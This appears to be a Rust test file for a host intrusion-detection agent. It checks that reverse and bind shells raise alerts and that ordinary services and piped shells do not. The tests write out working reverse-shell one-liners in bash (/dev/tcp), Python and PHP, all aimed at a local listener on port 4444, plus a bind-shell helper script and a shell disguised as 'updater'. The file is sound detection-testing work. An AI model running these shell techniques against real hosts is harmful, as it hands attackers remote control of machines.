//! Shells that are handed to another machine, and services that are handed a connection: `Reverse shell detected` and
//! `Bind shell detected`.

use serde_json::Value;

use crate::{
    ocsf::{activity, brief, exe, fact, level, title},
    tocsin::Tocsin,
    web_host::WebHost,
};

const REVERSE: &str = "Reverse shell detected";
const BIND: &str = "Bind shell detected";

/// Who waits for the shells at port 4444: he has nothing to say to any.
const OTHER_SIDE: &str = "
import socket
listener = socket.create_server(('', 4444))
open('/run/waits', 'w').close()
while True:
    shell, _ = listener.accept()
    shell.sendall(b'exit\\n')
    shell.shutdown(socket.SHUT_WR)
";

/// As inetd does it: runs a program for one client, which is the accepted connection's other side.
const SERVER: &str = "
import os, socket, sys
listener = socket.create_server(('127.0.0.1', 0))
client = socket.create_connection(listener.getsockname())
client.sendall(b'exit\\n')
client.shutdown(socket.SHUT_WR)
accepted, _ = listener.accept()
if os.fork() == 0:
    for number in 0, 1, 2:
        os.dup2(accepted.fileno(), number)
    os.execv(sys.argv[1], sys.argv[1:])
os.wait()
";

/// A host with shells of its own in `/opt/shells`, so that alerts about them are about this test.
fn host() -> Option<WebHost> {
    let host = WebHost::start()?;
    host.write("/srv/other-side.py", OTHER_SIDE);
    host.write("/srv/server.py", SERVER);
    host.run(
        "mkdir /opt/shells; cp /bin/sh /opt/shells/sh; cp /bin/bash /opt/shells/bash; cp /bin/bash /opt/shells/updater",
    );
    Some(host)
}

/// The first alerts about programs in that folder, with their levels.
fn about<'a>(alerts: &'a [Value], folder: &str) -> Vec<(&'a str, &'a str, &'a str)> {
    let ours = |alert: &&Value| exe(alert).starts_with(folder) && activity(alert) == "Create";
    let mut found: Vec<_> = alerts
        .iter()
        .filter(ours)
        .filter(|alert| [REVERSE, BIND].contains(&title(alert)))
        .map(|alert| (exe(alert), title(alert), level(alert)))
        .collect();
    found.sort_unstable();
    found.dedup();
    found
}

#[test]
fn a_shell_that_is_a_connection_is_told_by_whichever_language_made_it() {
    let Some(host) = host() else { return };
    let agent = Tocsin::start(&["--dedup", "0"]);
    host.run("python3 /srv/other-side.py >/dev/null 2>&1 & until [ -e /run/waits ]; do sleep 0.05; done");
    host.run("bash -c '/opt/shells/bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' || :");
    let alert = agent.wait_for_alert(REVERSE, |alert| exe(alert) == "/opt/shells/bash");
    assert_eq!(
        (level(&alert), fact(&alert, "process.stdio_peer_port")),
        ("Critical", &Value::from(4444)),
        "{}",
        brief(&alert)
    );
    assert_eq!(fact(&alert, "process.stdio_peer"), "127.0.0.1", "{}", brief(&alert));

    let connect = "import os, socket; s = socket.create_connection((\"127.0.0.1\", 4444)); [os.dup2(s.fileno(), n) for n in (0, 1, 2)]";
    host.run(&format!(
        "python3 -c '{connect}; os.execv(\"/opt/shells/sh\", [\"sh\", \"-i\"])'"
    ));
    // By another name it is a program like others that has the connection for its input and output.
    host.run(&format!(
        "python3 -c '{connect}; os.execv(\"/opt/shells/updater\", [\"updater\"])'"
    ));
    host.run(
        "php -r '$s = fsockopen(\"127.0.0.1\", 4444); proc_close(proc_open([\"/opt/shells/sh\"], [$s, $s, $s], $p));'",
    );
    let alerts = agent.alerts_after_quiet();
    assert_eq!(
        about(&alerts, "/opt/shells/"),
        [
            ("/opt/shells/bash", REVERSE, "Critical"),
            ("/opt/shells/sh", REVERSE, "Critical"),
            ("/opt/shells/updater", REVERSE, "High"),
        ]
    );
    let shells = alerts
        .iter()
        .filter(|alert| exe(alert) == "/opt/shells/sh" && title(alert) == REVERSE);
    assert_eq!(shells.count(), 2, "Python's and PHP's");
}

#[test]
fn services_that_are_handed_a_connection_are_silent_until_one_is_a_shell() {
    let Some(host) = host() else { return };
    host.write(
        "/srv/www/page.php",
        "<?php echo shell_exec('/opt/shells/sh -c \"id -u\"');",
    );
    // The workers have the socket where they listen as their standard input, and so has what they run.
    host.start_php_fpm("/opt/site/worker", "127.0.0.1:9000");
    host.start_nginx("127.0.0.1:9000");
    host.write("/srv/service.sh", "read -r line\necho served\n");
    let agent = Tocsin::start(&["--dedup", "0"]);
    for service in [
        "/opt/shells/sh /srv/service.sh",
        "/opt/shells/sh -c 'read -r line; echo served'",
        "/bin/cat",
    ] {
        host.run(&format!("python3 /srv/server.py {service}"));
    }
    assert!(host.get("http://127.0.0.1/page.php", &[]).contains("33"));
    // Pipes are how programs talk to shells.
    host.run("echo exit | /opt/shells/sh; echo exit | /opt/shells/bash -s");
    let alerts = agent.alerts_after_quiet();
    assert_eq!(about(&alerts, "/opt/shells/"), []);

    host.run("python3 /srv/server.py /opt/shells/bash -i");
    let alert = agent.wait_for_alert(BIND, |alert| exe(alert) == "/opt/shells/bash");
    assert_eq!(
        (level(&alert), fact(&alert, "process.stdio_initiated")),
        ("Critical", &Value::from(false)),
        "{}",
        brief(&alert)
    );
}
